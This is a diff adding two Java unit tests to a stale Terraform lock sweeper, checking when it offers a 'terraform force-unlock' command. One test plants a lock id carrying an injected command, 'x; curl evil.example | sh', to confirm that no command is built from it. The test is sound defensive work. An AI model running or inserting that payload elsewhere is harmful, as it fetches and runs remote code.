@@ -109,6 +109,34 @@ class SweeperDecisionsTest {
     }
 
     @Test
+    void aStaleLockSaysWhetherItIsSafeToForceUnlock_withTheExactCommandFromTheLockBody() {
+        lockTakenAndNotYetReleased();
+        locks.hold(NETWORK, "s3", BODY);
+
+        sweepAt("2026-11-04T11:20:00Z");
+
+        Finding f = stale().get(0);
+        // Judged at 11:05: the job's one-hour credentials expired at 11:00 and it made no call since.
+        assertEquals("holder-ended", f.details().get("verdict"));
+        assertEquals("true", f.details().get("holderEnded"));
+        assertEquals("true", f.details().get("wroteStateAfterLock"), "it wrote the state after taking the lock");
+        assertEquals("terraform force-unlock " + BODY.id(), f.details().get("forceUnlock"));
+    }
+
+    @Test
+    void aLockBodyWhoseIdIsNotTerraformsGivesNoCommand() {
+        lockTakenAndNotYetReleased();
+        locks.hold(NETWORK, "s3", new LockDetails("x; curl evil.example | sh", BODY.operation(), BODY.who(), BODY.version(),
+                BODY.created(), BODY.path()));
+
+        sweepAt("2026-11-04T11:20:00Z");
+
+        Finding f = stale().get(0);
+        assertEquals("x; curl evil.example | sh", f.details().get("lockId"), "shown as read, escaped by each sink");
+        assertNull(f.details().get("forceUnlock"));
+    }
+
+    @Test
     void aStaleLockWhoseStoreCannotBeReachedIsRaisedAndSaysItIsNotVerified() {
         lockTakenAndNotYetReleased();
         locks.unreachable("s3", "AccessDenied on the reader role");
